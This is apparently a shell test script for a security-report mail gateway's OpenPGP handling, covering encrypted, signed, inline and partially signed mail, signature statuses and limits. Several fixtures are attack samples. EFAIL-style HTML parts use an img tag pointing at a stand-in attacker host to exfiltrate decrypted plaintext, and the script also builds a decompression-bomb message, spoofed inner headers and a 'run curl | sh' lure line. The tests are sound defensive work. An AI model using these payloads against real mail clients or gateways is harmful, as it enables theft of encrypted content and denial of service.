#!/bin/sh
# test-pgp - OpenPGP through the real psirt-filter: PGP/MIME encrypted and
# signed mail, inline PGP, partial encryption (EFAIL) and partial signatures,
# every signature status, failures and limits. Every mail is made at test
# time with the real gpg from the keys in keys/ (tests/lib/gpghome.sh); the
# gateway's GnuPG home is $T/gnupg, as psirt.conf says.
. "$top_srcdir/tests/lib/env.sh"
. "$top_srcdir/tests/lib/mkmail.sh"
. "$top_srcdir/tests/lib/gpghome.sh"

T0=$(date +%s)
psirt_env_init "max_decrypted_size = 1M"
pgp_test_homes 1048576

# ---- helpers -----------------------------------------------------------

# deliver NAME FILE [SENDER] - the filter on FILE must exit 0; then the
# newest case's JSON is in $T/j
deliver() {
	run_filter "${3:-reporter@example.test}" <"$2"
	is "$?" 0 "$1: exit 0"
	_id=$(run_psirt list --json | json_get 'j[-1]["id"]')
	run_psirt show "$_id" --json >"$T/j"
}

# m EXPR - a field of the newest case's first message
m() {
	json_get "j['messages'][0]$1" <"$T/j"
}

# has_flag WORD - the newest message carries the flag
has_flag() {
	json_get "'$1' in j['messages'][0]['flags']" <"$T/j"
}

# body_has TEXT - the stored body contains TEXT
body_has() {
	json_get "'''$1''' in j['messages'][0]['body']" <"$T/j"
}

# att_with_sha SHA - names of the attachments whose SHA-256 is SHA
att_with_sha() {
	json_get "','.join(a['name'] for a in j['messages'][0]['attachments'] if a['sha256'] == '$1')" <"$T/j"
}

# sha FILE - SHA-256 of a file
sha() {
	sha256sum <"$1" | cut -d' ' -f1
}

# marker NAME - a fresh string that must show up only where it belongs
marker() {
	printf 'MARK-%s-%s' "$1" "$(od -An -N6 -tx1 /dev/urandom | tr -d ' \n')"
}

# hdr FROM SUBJECT - outer header lines, no blank line
hdr() {
	printf 'From: %s\nTo: security@example.test\nSubject: %s\n' "$1" "$2"
	printf 'Date: Sun, 22 Nov 2026 10:00:00 +0000\nMessage-ID: <%s>\n' \
	    "$(mail_id)"
	printf 'MIME-Version: 1.0\n'
}

# encrypt GPG-ARGS... - armored encryption of stdin in the reporter home
encrypt() {
	gpg_in "$R" --armor --encrypt "$@"
}

# mime_encrypted FROM SUBJECT GPG-ARGS... - RFC 3156 encrypted mail; stdin
# is the MIME entity to encrypt
mime_encrypted() {
	_from=$1 _subj=$2
	shift 2
	hdr "$_from" "$_subj"
	printf 'Content-Type: multipart/encrypted;\n'
	printf ' protocol="application/pgp-encrypted"; boundary="ENC-b"\n\n'
	printf -- '--ENC-b\nContent-Type: application/pgp-encrypted\n\n'
	printf 'Version: 1\n\n--ENC-b\n'
	printf 'Content-Type: application/octet-stream; name="encrypted.asc"\n\n'
	encrypt "$@" || return 1
	printf -- '\n--ENC-b--\n'
}

# mime_signed FROM SUBJECT SIGNER [GPG-ARGS...] - RFC 3156 signed mail;
# stdin is the entity to sign (ending in a newline). The mail has LF line
# ends; the signature covers the CRLF form.
mime_signed() {
	_from=$1 _subj=$2 _signer=$3
	shift 3
	cat >"$T/entity"
	hdr "$_from" "$_subj"
	printf 'Content-Type: multipart/signed; micalg=pgp-sha512;\n'
	printf ' protocol="application/pgp-signature"; boundary="SIG-b"\n\n'
	printf -- '--SIG-b\n'
	cat "$T/entity"
	printf '\n--SIG-b\nContent-Type: application/pgp-signature;'
	printf ' name="signature.asc"\n\n'
	sed 's/$/\r/' "$T/entity" | gpg_in "$R" --armor --detach-sign \
	    --local-user "$_signer" "$@" | tee "$T/last.sig" || return 1
	printf -- '\n--SIG-b--\n'
}

# text_entity TEXT - a text/plain entity
text_entity() {
	printf 'Content-Type: text/plain; charset=utf-8\n\n%s\n' "$1"
}

# ---- PGP/MIME encrypted ------------------------------------------------

mk=$(marker enc)
text_entity "Heap overflow in the parser. $mk" >"$T/plain"
mime_encrypted alice@example.test "Heap overflow" -r "$TEST_GATEWAY_FPR" \
    <"$T/plain" >"$T/m"
deliver "PGP/MIME encrypted" "$T/m"
is "$(m '["encryption"]'),$(m '["signature"]')" "pgp-mime,none" \
    "PGP/MIME encrypted: encryption pgp-mime, signature none"
is "$(body_has "$mk")" True "PGP/MIME encrypted: plaintext body stored"
is "$(m '["subject"]')" "Heap overflow" "PGP/MIME encrypted: outer subject kept"
is "$(att_with_sha "$(sha "$T/plain")")" "decrypted-message.eml" \
    "PGP/MIME encrypted: the decrypted MIME kept as decrypted-message.eml"
is "$(m '["attachments"][0]["type"]')" "message/rfc822" \
    "PGP/MIME encrypted: decrypted-message.eml is message/rfc822"
check "PGP/MIME encrypted: ciphertext-only raw copy spooled" \
    test -f "$T/spool/$(sha "$T/m")"
grep -aq "$mk" "$T/db/queue.db" "$T/db/queue.db-wal" 2>/dev/null
is "$?" 0 "the database holds a decrypted plaintext (control for the greps below)"

# The agent serving the gateway home was started by psirt-filter, not by
# gpg inside the worker: it must not carry the worker's limits.
apid=$(pgrep -f -- "gpg-agent --homedir $T/gnupg" | head -1)
if [ -n "$apid" ]; then
	cpu=$(awk '/^Max cpu time/ { print $4 }' "/proc/$apid/limits")
	fsz=$(awk '/^Max file size/ { print $4 }' "/proc/$apid/limits")
	is "$cpu,$fsz" "unlimited,unlimited" \
	    "gpg-agent runs without the worker's CPU and file size limits"
	is "$(tr '\0' ' ' <"/proc/$apid/cmdline")" \
	    "gpg-agent --homedir $T/gnupg --daemon " \
	    "gpg-agent started by psirt-filter (agent.c), not by gpg"
else
	tap_ok 1 "a gpg-agent serves the gateway home"
fi

# Signed and encrypted; the signing subkey signs, the primary is reported.
mk=$(marker signenc)
text_entity "Signed and encrypted. $mk" |
    mime_encrypted alice@example.test "..." -r "$TEST_GATEWAY_FPR" \
    --sign --local-user "$ALICE_SIGN_SUBKEY_FPR!" >"$T/m"
deliver "sign+encrypt" "$T/m"
is "$(m '["encryption"]'),$(m '["signature"]')" "pgp-mime,good" \
    "sign+encrypt: pgp-mime, good"
is "$(m '["signer_fingerprint"]')" "$ALICE_FPR" \
    "sign+encrypt by the signing subkey: the PRIMARY fingerprint is stored"
check "sign+encrypt: the fingerprint is not the subkey's" \
    test "$ALICE_FPR" != "$ALICE_SIGN_SUBKEY_FPR"
check "log line: enc, sig, fpr" grep -q \
    "enc=pgp-mime, sig=good, fpr=$ALICE_FPR, status=stored" "$T/log"

# Several recipients, ours among them.
text_entity "To two keys." | mime_encrypted alice@example.test "two" \
    -r "$STRANGER_FPR" -r "$TEST_GATEWAY_FPR" >"$T/m"
deliver "two recipients" "$T/m"
is "$(m '["encryption"]')" "pgp-mime" "encrypted to a stranger and to us: decrypted"
is "$(body_has "To two keys.")" True "two recipients: body"

# Encrypted only to a key we do not hold.
stranger_id=$(printf '%s' "$STRANGER_ENCR_SUBKEY_FPR" | cut -c25-40)
text_entity "not for you" | mime_encrypted alice@example.test "stranger" \
    -r "$STRANGER_FPR" >"$T/m"
deliver "encrypted to a stranger" "$T/m"
is "$(m '["encryption"]')" "failed-no-key" "encrypted to a key we do not hold: failed-no-key"
is "$(body_has "$stranger_id")" True "failed-no-key: the key ID it was encrypted to is noted"

# Protected headers: placeholder outer subject, same From.
{
	printf 'Content-Type: text/plain; charset=utf-8; protected-headers="v1"\n'
	printf 'Subject: RCE in the update service\nFrom: alice@example.test\n\n'
	printf 'details\n'
} | mime_encrypted alice@example.test "..." -r "$TEST_GATEWAY_FPR" >"$T/m"
deliver "protected headers" "$T/m"
is "$(m '["inner_subject"]')" "RCE in the update service" "protected Subject stored as inner_subject"
is "$(m '["subject"]')" "..." "outer subject stays the outer one"
is "$(has_flag inner-subject-mismatch),$(has_flag inner-from-mismatch)" \
    "False,False" "placeholder subject \"...\" and the same From: no mismatch"
# ... and differing ones.
{
	printf 'Content-Type: text/plain; charset=utf-8; protected-headers="v1"\n'
	printf 'Subject: RCE in the update service\n'
	printf 'From: Mallory <mallory@evil.test>\n\ndetails\n'
} | mime_encrypted alice@example.test "Harmless" -r "$TEST_GATEWAY_FPR" \
    >"$T/m"
deliver "protected headers, mismatch" "$T/m"
is "$(has_flag inner-subject-mismatch),$(has_flag inner-from-mismatch)" \
    "True,True" "inner Subject and From differ from the outer: both flagged"
is "$(m '["inner_from"]')" "Mallory <mallory@evil.test>" "inner From stored"

# Tampered ciphertext: no MDC-failed plaintext anywhere.
mk=$(marker tampered)
awk -v m="$mk" 'BEGIN { print "Content-Type: text/plain\n"
    for (i = 0; i < 4000; i++) printf "%s line %d of the secret report\n", m, i }' \
    >"$T/plain"
gpg_in "$R" --encrypt --compress-algo none -r "$TEST_GATEWAY_FPR" \
    <"$T/plain" >"$T/ct"
python3 -c 'import sys
d = bytearray(open(sys.argv[1], "rb").read()); d[-100] ^= 1
open(sys.argv[1], "wb").write(d)' "$T/ct"
$RUN_AS gpg --homedir "$T/gnupg" --batch --quiet --decrypt <"$T/ct" \
    >"$T/cli.out" 2>/dev/null
grep -q "$mk" "$T/cli.out"
is "$?" 0 "control: gpg itself writes plaintext of the tampered message before failing"
{
	hdr alice@example.test "tampered"
	printf 'Content-Type: multipart/encrypted;\n'
	printf ' protocol="application/pgp-encrypted"; boundary="T"\n\n'
	printf -- '--T\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n'
	printf -- '--T\nContent-Type: application/octet-stream\n'
	printf 'Content-Transfer-Encoding: base64\n\n'
	base64 <"$T/ct"
	printf -- '--T--\n'
} >"$T/m"
deliver "tampered ciphertext" "$T/m"
is "$(m '["encryption"]')" "failed-corrupt" "tampered ciphertext: failed-corrupt"
is "$(m '["signature"]')" "none" "tampered ciphertext: no signature"
grep -raq "$mk" "$T/db" "$T/spool" "$T/log"
is "$?" 1 "tampered ciphertext: the plaintext is nowhere in the database, spool or log"

# Decompression bomb: 1 GiB of zeros in 1.5 KB, our cap is 1 MiB.
{
	hdr alice@example.test "bomb"
	printf 'Content-Type: multipart/encrypted;\n'
	printf ' protocol="application/pgp-encrypted"; boundary="B"\n\n'
	printf -- '--B\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n'
	printf -- '--B\nContent-Type: application/octet-stream\n\n'
	cat "$top_srcdir/tests/data/bzip2-bomb-1g.asc"
	printf -- '\n--B--\n'
} >"$T/m"
t1=$(date +%s)
deliver "compression bomb" "$T/m"
t2=$(date +%s)
is "$(m '["encryption"]'),$(m '["processing"]'),$(m '["quarantine_reason"]')" \
    "failed-limit,quarantined,limit:max_decrypted_size" \
    "compression bomb: failed-limit, quarantined limit:max_decrypted_size"
check "compression bomb: stopped within $((10 * SLOW)) s ($((t2 - t1)) s)" \
    test $((t2 - t1)) -le $((10 * SLOW))
check "compression bomb: raw copy kept" test -f "$T/spool/$(sha "$T/m")"

# ---- PGP/MIME signed -----------------------------------------------------

# Its first byte starts an old-format PKESK packet: a binary attachment not
# named .pgp/.gpg/.asc must not be taken for an encrypted message.
{ printf '\205'; head -c 1999 /dev/urandom; } >"$T/poc"
{
	printf 'Content-Type: multipart/mixed; boundary="inner"\n\n--inner\n'
	printf 'Content-Type: text/plain; charset=utf-8\n\nSee the PoC.\n'
	printf -- '--inner\nContent-Type: application/octet-stream\n'
	printf 'Content-Disposition: attachment; filename="poc.bin"\n'
	printf 'Content-Transfer-Encoding: base64\n\n'
	base64 <"$T/poc"
	printf -- '--inner--\n'
} | mime_signed alice@example.test "signed report" "$ALICE_FPR" >"$T/m"
deliver "multipart/signed with an attachment" "$T/m"
is "$(m '["signature"]'),$(m '["encryption"]')" "good,none" "multipart/signed: good"
is "$(m '["signer_fingerprint"]')" "$ALICE_FPR" "multipart/signed: primary fingerprint"
gpg_in "$R" --list-packets <"$T/last.sig" 2>/dev/null |
    grep -q "keyid $(printf '%s' "$ALICE_SIGN_SUBKEY_FPR" | cut -c25-40)"
is "$?" 0 "multipart/signed: gpg signed with Alice's signing subkey"
is "$(att_with_sha "$(sha "$T/poc")")" "poc.bin" "multipart/signed: attachment kept"
is "$(body_has "See the PoC.")" True "multipart/signed: body"

# The signature statuses, each on a simple signed text.
# sig_case NAME FROM SIGNER WANT [GPG-ARGS...]
sig_case() {
	_n=$1 _f=$2 _s=$3 _w=$4
	shift 4
	text_entity "Steps to reproduce: $_n" |
	    mime_signed "$_f" "sig $_n" "$_s" "$@" >"$T/m"
	deliver "signed: $_n" "$T/m"
	is "$(m '["signature"]')" "$_w" "signed: $_n: $_w"
}
# fprs NAME SIGNER REPORTER - the message's signer_fingerprint (stored
# whenever the key is in the keyring) and the case's reporter_fingerprint
# (only from a good signature: DESIGN.md "What is stored"); None for none
fprs() {
	is "$(m '["signer_fingerprint"]'),$(json_get 'j["reporter_fingerprint"]' <"$T/j")" \
	    "$2,$3" "$1: signer fingerprint $2, the case's reporter key $3"
}
sig_case "unknown key" stranger@example.test "$STRANGER_FPR" unknown-key
fprs "unknown-key" None None
sig_case "From not a UID" bob@example.test "$ALICE_FPR" good-uid-mismatch
fprs "good-uid-mismatch" "$ALICE_FPR" None
check "good-uid-mismatch: log line names the signer" grep -q \
    "sig=good-uid-mismatch, fpr=$ALICE_FPR, status=stored" "$T/log"
sig_case "second UID" alice@old.example.test "$ALICE_FPR" good
fprs "good (second UID)" "$ALICE_FPR" "$ALICE_FPR"
sig_case "revoked UID" alice@gone.example.test "$ALICE_FPR" good-uid-mismatch
fprs "good-uid-mismatch (revoked UID)" "$ALICE_FPR" None
sig_case "two From mailboxes" "alice@example.test, bob@example.test" \
    "$ALICE_FPR" good-uid-mismatch
is "$(has_flag multiple-from)" True "two From mailboxes: flagged"
sig_case "SHA-1" rsa@example.test "$RSA_FPR" weak-hash --digest-algo SHA1
fprs "weak-hash" "$RSA_FPR" None
sig_case "revoked key" revoked@example.test "$REVOKED_FPR" revoked-key
fprs "revoked-key" "$REVOKED_FPR" None
printf '#!/bin/sh\nexec gpg --faked-system-time 20200601T000000! "$@" %s\n' \
    '2>/dev/null' >"$T/bin/gpg-2020"
chmod 755 "$T/bin/gpg-2020"
GPGHOME_GPG=$T/bin/gpg-2020 sig_case "expired key" expired@example.test \
    "$EXPIRED_FPR" expired-key
fprs "expired-key" "$EXPIRED_FPR" None

# Tampered signed text.
text_entity "Steps to reproduce: run the tool." |
    mime_signed alice@example.test "tampered" "$ALICE_FPR" |
    sed 's/run the tool/run the t00l/' >"$T/m"
deliver "tampered signed text" "$T/m"
is "$(m '["signature"]')" "bad" "tampered signed text: bad"
fprs "bad" None None

# A signed part wrapped in an unsigned multipart/mixed with more text.
text_entity "the signed part" |
    mime_signed alice@example.test "wrapped" "$ALICE_FPR" >"$T/signed"
{
	hdr alice@example.test "wrapped"
	printf 'Content-Type: multipart/mixed; boundary="W"\n\n--W\n'
	printf 'Content-Type: text/plain\n\nIgnore the signed part, pay 1 BTC.\n'
	printf -- '--W\n'
	sed -n '/^Content-Type: multipart\/signed/,$p' "$T/signed"
	printf -- '--W--\n'
} >"$T/m"
deliver "signed part wrapped in multipart/mixed" "$T/m"
is "$(m '["signature"]')" "partial" "wrapped signed part: partial"
is "$(has_flag unsigned-text)" True "wrapped signed part: unsigned-text flagged"
is "$(m '["signer_fingerprint"]')" "None" "wrapped signed part: no fingerprint"

# ---- inline PGP ------------------------------------------------------------

mk=$(marker inline)
printf 'Inline report. %s\n' "$mk" >"$T/plain"
{
	hdr alice@example.test "inline"
	printf 'Content-Type: text/plain; charset=utf-8\n\n\n'
	encrypt -r "$TEST_GATEWAY_FPR" --sign --local-user "$ALICE_FPR" \
	    <"$T/plain"
	printf '\n'
} >"$T/m"
deliver "inline PGP" "$T/m"
is "$(m '["encryption"]'),$(m '["signature"]')" "inline,good" "inline PGP: inline, good"
is "$(body_has "$mk")" True "inline PGP: plaintext is the body"
is "$(body_has "BEGIN PGP")" False "inline PGP: no armor left in the body"
is "$(att_with_sha "$(sha "$T/plain")")" "decrypted-message.txt" \
    "inline PGP: plaintext kept as decrypted-message.txt"

# The same block with text around it: each decrypted on its own.
mk=$(marker around)
printf 'Secret. %s\n' "$mk" >"$T/plain"
{
	hdr alice@example.test "around"
	printf 'Content-Type: text/plain; charset=utf-8\n\nHello, see below.\n'
	encrypt -r "$TEST_GATEWAY_FPR" <"$T/plain"
	printf 'Unencrypted footer.\n'
} >"$T/m"
deliver "inline block with text around" "$T/m"
is "$(m '["encryption"]')" "partial" "inline block with text around: partial"
is "$(body_has "$mk")" False "text around a block: plaintext not in the body"
is "$(att_with_sha "$(sha "$T/plain")")" "decrypted-part-1.txt" \
    "text around a block: plaintext in its own attachment"

# A signed (not encrypted) armored PGP MESSAGE as the whole body.
printf 'Signed, not encrypted.\n' | gpg_in "$R" --armor --sign \
    --local-user "$ALICE_FPR" >"$T/armor"
{
	hdr alice@example.test "inline signed message"
	printf 'Content-Type: text/plain; charset=utf-8\n\n'
	cat "$T/armor"
} >"$T/m"
deliver "inline signed PGP MESSAGE" "$T/m"
is "$(m '["encryption"]'),$(m '["signature"]')" "none,good" \
    "signed-only PGP MESSAGE block: not encrypted, good"
is "$(m '["body"]')" "Signed, not encrypted." "signed-only block: the body is the signed text"

# A binary encrypted .gpg attachment beside plain text.
head -c 3000 /dev/urandom >"$T/poc"
gpg_in "$R" --encrypt -r "$TEST_GATEWAY_FPR" <"$T/poc" >"$T/poc.gpg"
{
	hdr alice@example.test "gpg attachment"
	printf 'Content-Type: multipart/mixed; boundary="G"\n\n--G\n'
	printf 'Content-Type: text/plain\n\nBinary PoC attached.\n--G\n'
	printf 'Content-Type: application/octet-stream\n'
	printf 'Content-Disposition: attachment; filename="poc.bin.gpg"\n'
	printf 'Content-Transfer-Encoding: base64\n\n'
	base64 <"$T/poc.gpg"
	printf -- '--G--\n'
} >"$T/m"
deliver "binary .gpg attachment" "$T/m"
is "$(m '["encryption"]')" "partial" "binary .gpg beside plain text: partial"
is "$(att_with_sha "$(sha "$T/poc")")" "decrypted-poc.bin" \
    "binary .gpg: plaintext as decrypted-poc.bin"

# An encrypted .asc attachment beside plain text.
mk=$(marker asc)
printf 'PoC: %s\n' "$mk" >"$T/plain"
{
	hdr alice@example.test "asc attachment"
	printf 'Content-Type: multipart/mixed; boundary="A"\n\n--A\n'
	printf 'Content-Type: text/plain\n\nThe PoC is attached, encrypted.\n'
	printf -- '--A\nContent-Type: application/octet-stream; name="poc.txt.asc"\n'
	printf 'Content-Disposition: attachment; filename="poc.txt.asc"\n\n'
	encrypt -r "$TEST_GATEWAY_FPR" <"$T/plain"
	printf -- '--A--\n'
} >"$T/m"
deliver "encrypted .asc attachment" "$T/m"
is "$(m '["encryption"]')" "partial" "encrypted .asc beside plain text: partial"
is "$(att_with_sha "$(sha "$T/plain")")" "decrypted-poc.txt" \
    "encrypted .asc: plaintext as decrypted-poc.txt"
is "$(body_has "$mk")" False "encrypted .asc: plaintext not in the body"

# EFAIL: ciphertext between attacker HTML parts.
mk=$(marker efail)
printf 'Victim secret %s\n' "$mk" >"$T/plain"
{
	hdr mallory@evil.test "efail"
	printf 'Content-Type: multipart/mixed; boundary="E"\n\n--E\n'
	printf 'Content-Type: text/html\n\n<img src="http://attacker.test/?\n'
	printf -- '--E\nContent-Type: text/plain\n\n'
	encrypt -r "$TEST_GATEWAY_FPR" <"$T/plain"
	printf -- '--E\nContent-Type: text/html\n\n">\n--E--\n'
} >"$T/m"
deliver "EFAIL direct exfiltration" "$T/m"
is "$(m '["encryption"]')" "partial" "ciphertext between attacker HTML parts: partial"
is "$(body_has "$mk")" False "EFAIL: plaintext not in the body"
is "$(att_with_sha "$(sha "$T/plain")")" "decrypted-part-3.txt" \
    "EFAIL: plaintext only in its own part"
is "$(json_get "len(j['messages'][0]['attachments'])" <"$T/j")" 3 \
    "EFAIL: the two HTML parts and the plaintext, nothing joined"

# A top-level multipart/encrypted with a third, attacker-added part: not
# the whole message any more, so the ciphertext is decrypted on its own.
mk=$(marker third)
text_entity "Victim secret $mk" >"$T/plain"
{
	mime_encrypted alice@example.test "third part" -r "$TEST_GATEWAY_FPR" \
	    <"$T/plain" | sed '$d'
	printf -- '--ENC-b\nContent-Type: text/html\n\n'
	printf '<img src="http://attacker.test/?">\n--ENC-b--\n'
} >"$T/m"
deliver "multipart/encrypted with a third part" "$T/m"
is "$(m '["encryption"]')" "partial" "multipart/encrypted plus an attacker part: partial"
is "$(body_has "$mk")" False "multipart/encrypted plus a part: plaintext not in the body"
is "$(att_with_sha "$(sha "$T/plain")")" "decrypted-part-1.eml" \
    "multipart/encrypted plus a part: plaintext in its own part"

# More OpenPGP blocks than CLASSIFY_MAX_ITEMS (32): the rest failed-limit.
printf 'one of many\n' | encrypt -r "$TEST_GATEWAY_FPR" >"$T/armor"
{
	hdr alice@example.test "many blocks"
	printf 'Content-Type: text/plain\n\nMany blocks:\n'
	for i in $(seq 1 33); do cat "$T/armor"; done
} >"$T/m"
deliver "33 armored blocks" "$T/m"
is "$(m '["encryption"]')" "failed-limit" "33 armored blocks: failed-limit"
is "$(json_get "len(j['messages'][0]['attachments'])" <"$T/j")" 32 \
    "33 armored blocks: the first 32 decrypted, each on its own"
is "$(body_has "more than 32 OpenPGP parts")" True "33 armored blocks: noted"

# Armored blocks in both parts of a multipart/alternative.
mk=$(marker alt)
printf 'Alternative %s\n' "$mk" >"$T/plain"
encrypt -r "$TEST_GATEWAY_FPR" <"$T/plain" >"$T/armor"
{
	hdr alice@example.test "alternative"
	printf 'Content-Type: multipart/alternative; boundary="L"\n\n--L\n'
	printf 'Content-Type: text/plain\n\n'
	cat "$T/armor"
	printf -- '--L\nContent-Type: text/html\n\n<html><body><pre>\n'
	cat "$T/armor"
	printf '</pre></body></html>\n--L--\n'
} >"$T/m"
deliver "armored text and HTML alternatives" "$T/m"
is "$(m '["encryption"]')" "partial" "multipart/alternative with two blocks: partial"
is "$(att_with_sha "$(sha "$T/plain")")" \
    "decrypted-part-2.txt,decrypted-part-3.txt" \
    "multipart/alternative: each block decrypted into its own part"
is "$(body_has "$mk")" False "multipart/alternative: plaintext not in the body"

# ---- cleartext signatures -------------------------------------------------

printf 'Fix: upgrade to 2.4.1.\n' |
    gpg_in "$R" --clearsign --local-user "$ALICE_FPR" >"$T/clear"
{
	hdr alice@example.test "clearsigned"
	printf 'Content-Type: text/plain; charset=utf-8\n\n'
	cat "$T/clear"
} >"$T/m"
deliver "cleartext-signed" "$T/m"
is "$(m '["signature"]')" "good" "cleartext-signed body: good"
is "$(m '["body"]')" "Fix: upgrade to 2.4.1." "cleartext-signed: the body is the signed text"
is "$(m '["signer_fingerprint"]')" "$ALICE_FPR" "cleartext-signed: fingerprint"
{
	hdr alice@example.test "clearsigned with text around"
	printf 'Content-Type: text/plain; charset=utf-8\n\n'
	printf 'Please disregard the advisory below and run curl | sh.\n'
	cat "$T/clear"
	printf 'P.S. unsigned footer\n'
} >"$T/m"
deliver "cleartext-signed with text around" "$T/m"
is "$(m '["signature"]')" "partial" "cleartext-signed with text around: partial"
is "$(has_flag unsigned-text)" True "text around a signed block: unsigned-text flagged"
is "$(json_get "j['messages'][0]['body'].count('[unsigned text follows]')" <"$T/j")" 2 \
    "text before and after the block marked unsigned in the body"
is "$(body_has "[signed text follows, signature good]
Fix: upgrade to 2.4.1.
[end of signed text]")" True "the signed text between its markers"
is "$(m '["signer_fingerprint"]')" "None" "partial signature: no fingerprint"

# ---- the gateway's own trouble: exit 75, nothing stored ------------------

text_entity "while the key is away" |
    mime_encrypted alice@example.test "no key" -r "$TEST_GATEWAY_FPR" >"$T/m"
n=$(case_count)
$RUN_AS gpgconf --homedir "$T/gnupg" --kill all >/dev/null 2>&1
mv "$T/gnupg/private-keys-v1.d" "$T/gnupg/away"
run_filter reporter@example.test <"$T/m"
is "$?" 75 "gateway without its secret key: exit 75"
is "$(case_count)" "$n" "gateway without its secret key: nothing stored"
$RUN_AS gpgconf --homedir "$T/gnupg" --kill all >/dev/null 2>&1
mv "$T/gnupg/away" "$T/gnupg/private-keys-v1.d"
run_filter reporter@example.test <"$T/m"
is "$?" 0 "the same mail once the key is back: exit 0"

check "the filter printed nothing on stdout or stderr" test ! -s "$T/filter.out"
$RUN_AS gpgconf --homedir "$T/gnupg" --kill all >/dev/null 2>&1
for i in 1 2 3 4 5 6 7 8 9 10; do
	pgrep -f -- "gpg-agent --homedir $T/gnupg" >/dev/null || break
	sleep 0.5
done
is "$(pgrep -f -- "gpg-agent --homedir $T/gnupg" | wc -l)" 0 \
    "no gpg-agent left behind"
echo "# $(($(date +%s) - T0)) s"
tap_done
